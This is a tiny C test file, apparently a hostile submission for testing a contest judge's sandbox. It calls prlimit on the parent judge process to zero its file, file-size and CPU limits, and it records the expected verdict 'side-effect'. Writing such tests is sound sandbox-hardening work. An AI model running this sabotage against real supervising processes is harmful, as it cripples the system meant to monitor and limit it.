/* The judge may open no files and use no time any more.
 * verdict: side-effect */
#include "hostile.h"
#include <sys/resource.h>
static void attack(void)
{
	struct rlimit none = {0, 0};

	prlimit(getppid(), RLIMIT_NOFILE, &none, NULL);
	prlimit(getppid(), RLIMIT_FSIZE, &none, NULL);
	prlimit(getppid(), RLIMIT_CPU, &none, NULL);
}
AT_CALL(f)
